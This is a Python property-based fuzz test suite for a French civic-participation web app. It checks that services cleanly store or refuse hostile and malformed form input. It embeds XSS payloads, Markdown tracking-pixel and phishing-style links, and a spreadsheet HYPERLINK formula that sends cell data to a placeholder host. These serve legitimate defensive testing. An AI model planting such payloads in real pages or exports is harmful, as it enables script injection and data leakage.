"""Generated input at every service that takes what people type, on SQLite and PostgreSQL.

Each service gets the values a page sends and values no page sends: text of every Unicode
plane, control characters, NUL, lone surrogates, HTML, Markdown, spreadsheet formulas, huge and
negative numbers, wrong types. Whatever comes in, the service either saves it cleanly — and
what it saved reads back identical, after the one documented cleaning (``lib.domain.text``) —
or refuses with its own error, leaving the database exactly as it was. Never another exception,
never "the database did not answer". Every export still opens afterwards.

The number of generated cases per service and database, and how many were accepted, refused or
crashed (target 0), is printed at the end of the run under "reliability figures". Set
``PARCOURS_FUZZ_EXAMPLES`` to generate more (say 1000) on a quiet machine.
"""

from __future__ import annotations

import csv
import io
import os
from datetime import timedelta

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lib.access import Role
from lib.domain import clock, forms
from lib.domain.errors import ReadFailed, ServiceError, WriteFailed
from lib.domain.framework import LEVELS, load_framework
from lib.domain.journey import CriterionScore, MilestoneDraft, Status
from lib.domain.text import clean_text
from lib.services import administration, feedback, imports, journey, membership
from lib.store import tables
from tests import figures
from tests.factories import make_actor, make_campaign, make_template, make_territory

FW = load_framework()
TODAY = clock.today()
EXAMPLES = int(os.environ.get("PARCOURS_FUZZ_EXAMPLES", "50"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,  # a standing suite: fresh cases each run, none replayed from a local cache
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

# --- What comes in -------------------------------------------------------------------------------

ANY_CHARACTER = st.characters(exclude_categories=())  # every plane, controls, NUL, lone surrogates
PAYLOADS = st.sampled_from(
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "![pixel](http://exemple.invalid/p.png)",
        "[reconnectez-vous](http://exemple.invalid/login)",
        "http://exemple.invalid/",
        '=HYPERLINK("http://exemple.invalid/?d="&A1,"ici")',
        "+1",
        "-2",
        "@SUM(A1)",
        "\x00",
        "a\x00b",
        "\ud800",
        "\x0b\x07\x01",
        "\u202eevil",
        "\ufeff",
        "𝕏🎉",
        " ",
        "",
    ]
)


def _itself(value):
    return value


def _branches(*strategies: st.SearchStrategy) -> st.SearchStrategy:
    """One of these, each about as likely as the others. (``st.one_of`` alone flattens nested
    choices: a strategy made of many alternatives would crowd the others out.)"""
    return st.one_of(*(s.map(_itself) for s in strategies))


TEXT = _branches(st.text(ANY_CHARACTER, max_size=40), PAYLOADS, st.text(max_size=250))
PAGE_TEXT = _branches(st.text(ANY_CHARACTER, min_size=1, max_size=60), PAYLOADS)
HUGE = _branches(
    st.integers(min_value=2**53), st.integers(max_value=-(2**53)), st.sampled_from([2**63, 2**70, 10**400])
)
NUMBER = _branches(st.integers(-5, 15), HUGE, st.floats(allow_nan=True, allow_infinity=True))
WRONG = _branches(
    st.none(),
    st.booleans(),
    NUMBER,
    st.binary(max_size=4),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=2), st.integers(), max_size=2),
    st.dates(),
    st.datetimes(),
)
ANYTHING = _branches(TEXT, WRONG)
PAGE_DATES = st.dates(min_value=TODAY - timedelta(days=3650), max_value=TODAY + timedelta(days=30))
DATES = _branches(PAGE_DATES, st.dates(), st.datetimes(), TEXT, st.none())


def _maybe(page_like: st.SearchStrategy) -> st.SearchStrategy:
    """What a page sends, most of the time, and anything else the rest of the time."""
    return _branches(page_like, page_like, page_like, ANYTHING)


def _forms(page: dict, messy: dict) -> st.SearchStrategy:
    """Whole forms as a page fills them in, most of the time, else anything field by field."""
    return _branches(st.fixed_dictionaries(page), st.fixed_dictionaries(page), st.fixed_dictionaries(messy))


# --- How each case is judged ---------------------------------------------------------------------


# What each service may write: a refusal must leave all of it exactly as it was. (Every table
# would be surer and three times slower; these are all the tables the services write to.)
WRITES = {
    "record_assessment": (
        tables.assessment,
        tables.assessment_score,
        tables.framework_version,
        tables.activity_log,
    ),
    "save_milestone": (tables.milestone, tables.activity_log),
    "open_campaign": (tables.campaign, tables.activity_log),
    "start_response": (tables.response,),
    "save_draft": (tables.response,),
    "submit_response": (tables.response, tables.answer, tables.activity_log),
    "resume_response": (tables.response,),
    "public_campaign": (tables.campaign,),
    "invite": (
        tables.invitation,
        tables.person,
        tables.membership,
        tables.activity_log,
        tables.outbox_message,
        tables.mail_recipient,
    ),
    "request_access": (
        tables.access_request,
        tables.activity_log,
        tables.outbox_message,
        tables.mail_recipient,
    ),
    "save_territory": (tables.territory, tables.activity_log),
    "save_peer_group": (tables.peer_group, tables.peer_group_member, tables.activity_log),
    "import_csv": (
        tables.territory,
        tables.peer_group_member,
        tables.invitation,
        tables.activity_log,
    ),
}


def _snapshot(engine, watched) -> dict[str, list]:
    with engine.connect() as conn:
        return {table.name: sorted(map(repr, conn.execute(sa.select(table)).all())) for table in watched}


def _attempt(engine, service: str, call, *, saved_when_refused: tuple[str, ...] = ()):
    """Run one generated case: the result when accepted, None when refused by the service.
    ``saved_when_refused``: tables a refusal writes on purpose (a refused submission keeps what
    was typed in its draft); the caller checks what they hold."""
    line = f"generated input · {service} · {engine.dialect.name}"
    before = _snapshot(engine, WRITES[service])
    try:
        result = call()
    except (WriteFailed, ReadFailed):
        figures.add(line, cases=1, crashes=1)
        raise  # the database choked on the input, and the person would be told it was down
    except ServiceError:
        figures.add(line, cases=1, refused=1)
        after = _snapshot(engine, WRITES[service])
        for table in saved_when_refused:
            before.pop(table), after.pop(table)
        assert after == before, "a refused call left something behind"
        return None
    except Exception:
        figures.add(line, cases=1, crashes=1)
        raise
    figures.add(line, cases=1, accepted=1)
    return result


def _exports_open(engine, actor, campaign_id) -> None:
    book = openpyxl.load_workbook(io.BytesIO(feedback.export_xlsx(engine, actor, campaign_id)))
    assert book.sheetnames == ["reponses", "codes"]
    text = feedback.export_csv(engine, actor, campaign_id).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 1 + feedback.results(engine, actor, campaign_id).submitted


def _clean(text: str) -> str:
    return clean_text(text).strip()


# --- Journey: assessments and milestones ---------------------------------------------------------


@pytest.fixture
def territory_team(engine):
    here = make_territory(engine, "Loos")
    return engine, here, make_actor(engine, Role.CONTRIBUTOR, here)


def test_generated_assessments_are_saved_as_sent_or_refused_on_their_field(territory_team):
    engine, here, contributor = territory_team
    criteria = [c.id for c in FW.criteria]
    levels = st.sampled_from([None, *LEVELS])
    page_score = st.builds(CriterionScore, levels, _branches(st.text(ANY_CHARACTER, max_size=80), PAYLOADS))
    any_score = st.builds(CriterionScore, _maybe(levels), _maybe(TEXT))
    assessments = _forms(
        {
            "scores": st.fixed_dictionaries({cid: page_score for cid in criteria}),
            "status": st.sampled_from(list(Status)),
            "assessed_on": st.one_of(st.none(), PAGE_DATES),
        },
        {
            "scores": _branches(
                st.dictionaries(st.sampled_from(criteria), any_score), st.dictionaries(TEXT, any_score), WRONG
            ),
            "status": _maybe(st.sampled_from(list(Status))),
            "assessed_on": DATES,
        },
    )

    @FUZZ
    @given(form=assessments)
    def case(form):
        scores = form["scores"]
        saved = _attempt(
            engine,
            "record_assessment",
            lambda: journey.record_assessment(
                engine, contributor, here, scores, form["status"], assessed_on=form["assessed_on"]
            ),
        )
        if saved is None:
            return
        with engine.connect() as conn:
            query = sa.select(tables.assessment_score).where(
                tables.assessment_score.c.assessment_id == saved.id
            )
            stored = {r.criterion_id: CriterionScore(r.level, r.comment or "") for r in conn.execute(query)}
        assert stored == {
            cid: CriterionScore(sent.level, _clean(sent.comment or ""))
            for cid in criteria
            for sent in [scores.get(cid, CriterionScore())]
        }
        if saved.status == Status.DRAFT:  # so that the next case may start a draft again
            with engine.begin() as conn:
                conn.execute(sa.delete(tables.assessment).where(tables.assessment.c.id == saved.id))

    case()


def test_generated_milestones_are_saved_as_sent_or_refused_on_their_field(territory_team):
    engine, here, contributor = territory_team
    phases = [p.id for p in FW.phases]
    dimensions = [d.id for d in FW.storytelling_dimensions]
    journey.save_milestone(engine, contributor, here, MilestoneDraft(TODAY, phases[0], "Forum"))
    milestones = _forms(
        {
            "occurred_on": PAGE_DATES,
            "phase": st.sampled_from(phases),
            "title": PAGE_TEXT,
            "story": _branches(TEXT, st.none()),
            "dimension": st.sampled_from([None, *dimensions]),
        },
        {
            "occurred_on": DATES,
            "phase": _maybe(st.sampled_from(phases)),
            "title": _maybe(TEXT),
            "story": _maybe(_branches(TEXT, st.none())),
            "dimension": _maybe(st.sampled_from([None, "", *dimensions])),
        },
    )

    @FUZZ
    @given(form=milestones, edit=st.booleans())
    def case(form, edit):
        draft = MilestoneDraft(
            form["occurred_on"], form["phase"], form["title"], form["story"], form["dimension"]
        )
        target = journey.list_milestones(engine, contributor, here)[0] if edit else None
        saved = _attempt(
            engine,
            "save_milestone",
            lambda: journey.save_milestone(
                engine,
                contributor,
                here,
                draft,
                target.id if target else None,
                target.version if target else None,
            ),
        )
        if saved is None:
            return
        stored = {m.id: m for m in journey.list_milestones(engine, contributor, here)}[saved.id]
        assert (stored.occurred_on, stored.phase, stored.title, stored.story) == (
            draft.occurred_on,
            draft.phase,
            _clean(draft.title),
            _clean(draft.story or ""),
        )
        assert stored.storytelling_dimension == (draft.storytelling_dimension or None)

    case()


# --- Feedback: campaigns, share links, resume codes, every question type -------------------------


@pytest.fixture
def feedback_world(engine):
    here = make_territory(engine, "Loos")
    campaign_id, token = make_campaign(engine, here)
    return {
        "engine": engine,
        "here": here,
        "campaign_id": campaign_id,
        "token": token,
        "template": feedback.public_campaign(engine, token).template,
        "admin": make_actor(engine, Role.TERRITORY_ADMIN, here),
    }


def _answers(template: forms.FormTemplate) -> st.SearchStrategy:
    """Answers to every question type: a page's complete form, a half-filled one with values out
    of range or of the wrong kind, or something no page sends."""

    def typed(q: forms.Question) -> st.SearchStrategy:
        """What the question's widget gives."""
        if q.type in (forms.SCALE, forms.NUMBER):
            low, high = int(q.min if q.min is not None else -50), int(q.max if q.max is not None else 50)
            return st.integers(low, high) if q.type == forms.SCALE or q.integer else st.floats(low, high)
        if q.type == forms.SINGLE_CHOICE:
            return st.sampled_from(q.option_ids)
        if q.type == forms.MULTIPLE_CHOICE:
            return st.lists(st.sampled_from(q.option_ids), unique=True)
        return _branches(st.text(ANY_CHARACTER, min_size=1, max_size=q.max_length), PAYLOADS)

    def off(q: forms.Question) -> st.SearchStrategy:
        """What a page could still send wrong: out of range, a typed number, too long a text."""
        if q.type in (forms.SCALE, forms.NUMBER):
            return _branches(st.integers(-1000, 1000), st.text("0123456789,.-e ", max_size=6), NUMBER)
        if q.type in forms.CHOICE_TYPES:
            return _branches(TEXT, st.lists(TEXT, max_size=3))
        return _branches(TEXT, st.text(max_size=(q.max_length or 200) + 50))

    complete = st.fixed_dictionaries(
        {q.id: typed(q) for q in template.questions if q.required},
        optional={q.id: typed(q) for q in template.questions if not q.required},
    )
    messy = st.fixed_dictionaries(
        {}, optional={q.id: _maybe(_branches(typed(q), off(q))) for q in template.questions}
    )
    nonsense = _branches(WRONG, st.dictionaries(TEXT, ANYTHING, max_size=3))
    return _branches(complete, complete, complete, messy, nonsense)


def _is_answers(answers) -> bool:
    return isinstance(answers, dict) and all(isinstance(k, str) for k in answers)


def test_generated_drafts_of_every_question_type_are_kept_as_typed_or_refused(feedback_world):
    w = feedback_world
    engine, token, template = w["engine"], w["token"], w["template"]

    @FUZZ
    @given(answers=_answers(template), step=_maybe(st.integers(0, len(template.sections) + 1)))
    def case(answers, step):
        code = feedback.start_response(engine, token, "inhabitant").resume_code
        saved = _attempt(
            engine, "save_draft", lambda: feedback.save_draft(engine, token, code, answers, step=step)
        )
        if saved is None:
            return
        expected = forms.draft_answers(template, answers or {})
        assert feedback.resume_response(engine, token, code).answers == saved.answers == expected

    case()
    _exports_open(engine, w["admin"], w["campaign_id"])


def test_generated_submissions_of_every_question_type_are_stored_as_cleaned_or_refused(feedback_world):
    w = feedback_world
    engine, token, template = w["engine"], w["token"], w["template"]

    @FUZZ
    @given(answers=_answers(template))
    def case(answers):
        code = feedback.start_response(engine, token, "local_agent").resume_code
        sent = _attempt(
            engine,
            "submit_response",
            lambda: feedback.submit_response(engine, token, code, answers),
            saved_when_refused=("response",),
        )
        kept = forms.draft_answers(template, answers if _is_answers(answers) else {})
        if sent is None:  # refused: what was typed stays in the draft, as typed
            assert feedback.resume_response(engine, token, code).answers == kept
            return
        expected = forms.clean_answers(template, kept)
        assert sent.submitted and sent.answers == expected
        with engine.connect() as conn:
            rows = conn.execute(
                sa.select(
                    tables.answer.c.question_id, tables.answer.c.numeric_value, tables.answer.c.text_value
                )
                .join(tables.response, tables.response.c.id == tables.answer.c.response_id)
                .where(tables.response.c.resume_code == code)
                .order_by(tables.answer.c.id)
            ).all()
        assert [tuple(r) for r in rows] == forms.answer_rows(template, expected)

    case()
    _exports_open(engine, w["admin"], w["campaign_id"])


def test_generated_campaigns_are_opened_as_sent_or_refused_on_their_field(feedback_world):
    w = feedback_world
    engine, coordinator = w["engine"], make_actor(w["engine"], Role.COORDINATOR, None)
    template_id = make_template(engine)
    territories = st.sampled_from([w["here"], None])
    campaigns = _forms(
        {
            "title": PAGE_TEXT,
            "template_id": st.just(template_id),
            "opens_on": PAGE_DATES,
            "closes_on": PAGE_DATES,
            "anonymous": st.booleans(),
            "territory_id": territories,
        },
        {
            "title": _maybe(TEXT),
            "template_id": _maybe(_branches(st.integers(-2, 2**31 + 2), HUGE, WRONG)),
            "opens_on": _maybe(PAGE_DATES),
            "closes_on": _maybe(PAGE_DATES),
            "anonymous": _maybe(st.booleans()),
            "territory_id": _maybe(territories),
        },
    )

    @FUZZ
    @given(form=campaigns)
    def case(form):
        opened = _attempt(
            engine, "open_campaign", lambda: feedback.open_campaign(engine, coordinator, **form)
        )
        if opened is None:
            return
        listed = {c.id: c for c in feedback.list_campaigns(engine, coordinator)}[opened.id]
        assert (listed.title, listed.opens_on, listed.closes_on, listed.anonymous, listed.territory_id) == (
            _clean(form["title"]),
            form["opens_on"],
            form["closes_on"],
            form["anonymous"],
            form["territory_id"],
        )

    case()


def test_generated_share_tokens_and_resume_codes_open_only_what_they_name(feedback_world):
    w = feedback_world
    engine, token = w["engine"], w["token"]
    draft = feedback.start_response(engine, token, "other")
    codes = _branches(
        st.just(draft.resume_code),
        st.just(feedback.format_code(draft.resume_code).lower()),
        _maybe(st.text(st.sampled_from("ABCDEFGHJKMNPQRSTUVWXYZ23456789- "), max_size=16)),
    )

    @FUZZ
    @given(link=_branches(st.just(token), ANYTHING), code=codes, role=_maybe(st.just("inhabitant")))
    def case(link, code, role):
        campaign = _attempt(engine, "public_campaign", lambda: feedback.public_campaign(engine, link))
        assert (campaign.state == feedback.CampaignState.OPEN) == (link == token)
        resumed = _attempt(engine, "resume_response", lambda: feedback.resume_response(engine, link, code))
        if resumed is not None:
            assert link == token and resumed.resume_code == draft.resume_code
        started = _attempt(engine, "start_response", lambda: feedback.start_response(engine, link, role))
        if started is not None:
            assert link == token and started.role == role

    case()


# --- Members: invitations and access requests ----------------------------------------------------


def test_generated_invitations_are_sent_as_typed_or_refused_on_their_field(engine):
    here = make_territory(engine, "Loos")
    coordinator = make_actor(engine, Role.COORDINATOR, None)
    emails = st.builds(
        lambda user, domain: f"{user}@{domain}.fr",
        _branches(st.text("abcdefghij.-_0123", min_size=1, max_size=12), st.text(ANY_CHARACTER, max_size=12)),
        st.text("abcdefgh-", min_size=1, max_size=8),
    )
    roles = st.sampled_from([r.value for r in Role])
    territories = st.sampled_from([here, None])
    # The page offers the roles the person may grant where they invite (lib.access.grantable_roles).
    offered = st.sampled_from(
        [(None, Role.COORDINATOR.value)] + [(here, r.value) for r in Role if r != Role.COORDINATOR]
    )
    invitations = _branches(
        st.builds(
            lambda email, where, days: {
                "email": email,
                "territory_id": where[0],
                "role": where[1],
                "valid_days": days,
            },
            emails,
            offered,
            st.integers(1, 90),
        ),
        st.fixed_dictionaries(
            {
                "email": _maybe(emails),
                "role": _maybe(roles),
                "valid_days": _maybe(st.integers(0, 120)),
                "territory_id": _maybe(territories),
            }
        ),
    )

    @FUZZ
    @given(form=invitations)
    def case(form):
        invitation_id = _attempt(engine, "invite", lambda: membership.invite(engine, coordinator, **form))
        if invitation_id is None:
            return
        stored = {i.id: i for i in membership.list_invitations(engine, coordinator, form["territory_id"])}
        assert (stored[invitation_id].email, stored[invitation_id].role.value) == (
            _clean(form["email"]).lower(),
            form["role"],
        )

    case()


def test_generated_access_requests_are_recorded_as_typed_or_refused_on_their_field(engine):
    here = make_territory(engine, "Loos")

    requests = _forms(
        {"message": _branches(TEXT, st.none()), "territory": st.sampled_from([here, None])},
        {"message": _maybe(_branches(TEXT, st.none())), "territory": _maybe(st.sampled_from([here, None]))},
    )

    @FUZZ
    @given(form=requests)
    def case(form):
        message, territory = form["message"], form["territory"]
        newcomer = make_actor(engine, Role.READER, make_territory(engine))
        request_id = _attempt(
            engine,
            "request_access",
            lambda: membership.request_access(engine, newcomer, territory_id=territory, message=message),
        )
        if request_id is None:
            return
        stored = {r.id: r for r in membership.my_requests(engine, newcomer)}[request_id]
        assert (stored.territory_id, stored.message) == (territory, _clean(message or ""))

    case()


# --- Network administration: territories, peer groups, CSV imports ------------------------------


def test_generated_territories_are_saved_as_typed_or_refused_on_their_field(engine):
    coordinator = make_actor(engine, Role.COORDINATOR, None)
    kinds = st.sampled_from(list(tables.TERRITORY_KINDS))
    page = {
        "name": _branches(PAGE_TEXT, st.text("abcdéèàçœ -'", min_size=1, max_size=30)),
        "kind": kinds,
        "slug": st.one_of(
            st.just(""), st.from_regex(r"[a-z0-9]{1,10}(-[a-z0-9]{1,10}){0,3}", fullmatch=True)
        ),
        "insee_code": st.one_of(st.just(""), st.from_regex(r"[0-9]{5}|2[AB][0-9]{3}", fullmatch=True)),
        "siren": st.one_of(st.just(""), st.from_regex(r"[0-9]{9}", fullmatch=True)),
        "region": st.one_of(st.just(""), PAGE_TEXT),
        "population": st.one_of(st.none(), st.integers(0, 10_000_000), PAGE_TEXT),
    }
    messy = {name: ANYTHING for name in page}

    @FUZZ
    @given(form=_forms(page, messy))
    def case(form):
        draft = administration.TerritoryDraft(**form)
        territory_id = _attempt(
            engine, "save_territory", lambda: administration.save_territory(engine, coordinator, draft)
        )
        if territory_id is None:
            return
        [stored] = [t for t in administration.territories(engine, coordinator) if t.id == territory_id]
        assert stored.name == _clean(form["name"])
        assert stored.kind == form["kind"]
        assert stored.region == (_clean(form["region"]) or None)
        assert stored.population == form["population"]

    case()


def test_generated_peer_groups_are_saved_as_typed_or_refused_on_their_field(engine):
    coordinator = make_actor(engine, Role.COORDINATOR, None)
    here, there = make_territory(engine, "Loos"), make_territory(engine, "Lens")
    page = {
        "name": PAGE_TEXT,
        "description": _branches(st.just(""), PAGE_TEXT),
        "territory_ids": st.lists(st.sampled_from([here, there]), unique=True),
    }
    messy = {
        "name": ANYTHING,
        "description": ANYTHING,
        "territory_ids": _branches(WRONG, st.lists(NUMBER, max_size=3), st.lists(st.booleans(), max_size=2)),
    }

    @FUZZ
    @given(form=_forms(page, messy))
    def case(form):
        group_id = _attempt(
            engine, "save_peer_group", lambda: administration.save_peer_group(engine, coordinator, **form)
        )
        if group_id is None:
            return
        [stored] = [g for g in administration.peer_groups(engine, coordinator) if g.id == group_id]
        assert (stored.name, set(stored.territory_ids)) == (_clean(form["name"]), set(form["territory_ids"]))

    case()


def _csv_file(rows: list[list[str]], separator: str, encoding: str) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=separator).writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def test_generated_csv_files_are_imported_whole_or_refused_with_nothing_written(engine):
    coordinator = make_actor(engine, Role.COORDINATOR, None)
    make_territory(engine, "Loos", slug="loos")
    cell = _branches(PAGE_TEXT, st.just(""), st.sampled_from(["commune", "EPCI", "loos", "lecteur", "62528"]))
    spreadsheet = st.builds(
        _csv_file,
        st.lists(st.lists(cell, min_size=1, max_size=8), min_size=1, max_size=6).map(
            lambda rows: [
                ["identifiant", "nom", "type", "code_insee", "siren", "region", "population"],
                *rows,
            ]
        ),
        st.sampled_from([";", ","]),
        st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
    )
    files = _branches(
        spreadsheet, spreadsheet, st.binary(max_size=300), TEXT.map(lambda s: s.encode("utf-8", "replace"))
    )

    @FUZZ
    @given(data=files, kind=st.sampled_from(imports.KINDS))
    def case(data, kind):
        before = _snapshot(engine, WRITES["import_csv"])
        report = _attempt(engine, "import_csv", lambda: imports.import_csv(engine, coordinator, kind, data))
        if report is None or report.applied:
            return
        # Refused row by row: the report names lines under the header, and nothing was written.
        assert report.problems and all(p.line >= 2 for p in report.problems)
        assert _snapshot(engine, WRITES["import_csv"]) == before

    case()
